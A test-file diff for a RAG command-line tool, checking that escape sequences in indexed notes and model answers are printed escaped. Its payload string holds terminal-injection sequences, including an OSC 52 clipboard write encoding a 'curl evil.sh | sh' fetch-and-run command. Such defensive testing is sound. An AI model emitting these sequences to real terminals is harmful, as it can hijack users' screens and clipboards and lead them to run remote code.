@@ -1,6 +1,7 @@
 """The CLI end to end on a tiny folder of markdown files, with the real MiniLM model."""
 
 import os
+import re
 import signal
 import socket
 import subprocess
@@ -10,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from llm_client.fault_server import FaultServer
 from rag.__main__ import main
 from tests.beir_folder import write_beir_folder
 
@@ -501,3 +503,29 @@ def test_a_reader_that_goes_away_is_status_1_without_a_traceback(built):
     err = proc.stderr.read()
     assert proc.wait(timeout=60) == 1
     assert err == ""
+
+
+def test_control_characters_from_files_and_answers_are_printed_escaped(tmp_path, capsys, minilm):
+    # ESC[2J clears the screen, OSC 0 sets the window title, OSC 52 writes the clipboard: a file
+    # name, title or text in the index, or a model's answer, reached the terminal raw
+    payload = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x9b31m"
+    notes = tmp_path / "notes"
+    notes.mkdir()
+    (notes / "vitamin\x1b[31m.md").write_text(
+        f"# Vitamin D {payload}trial\n\nVitamin D and cancer risk in a large trial.\n"
+    )
+    (notes / "sleep.md").write_text("# Sleep\n\nSleep and memory consolidation.\n")
+    where = ["--index", str(tmp_path / "idx"), "--cache-dir", str(tmp_path / "c")]
+    assert main(["index", str(notes), *where]) == 0
+    capsys.readouterr()
+    assert main(["search", "vitamin D and cancer", *where]) == 0
+    search = capsys.readouterr().out
+    assert "vitamin\\x1b[31m.md  Vitamin D \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;" in search
+    with FaultServer() as server:  # a real endpoint whose model echoes the prompt it is sent
+        args = ["ask", "Does vitamin D lower cancer risk?", *where, "--threshold", "-1"]
+        assert main([*args, "--base-url", server.base_url, "--llm-model", "echo"]) == 0
+    ask = capsys.readouterr().out
+    assert ask.startswith("echo: Sources:\n\n[1] Vitamin D \\x1b[2J")  # the answer
+    assert "[1] vitamin\\x1b[31m.md  Vitamin D \\x1b[2J" in ask  # its sources
+    for out in (search, ask):
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)
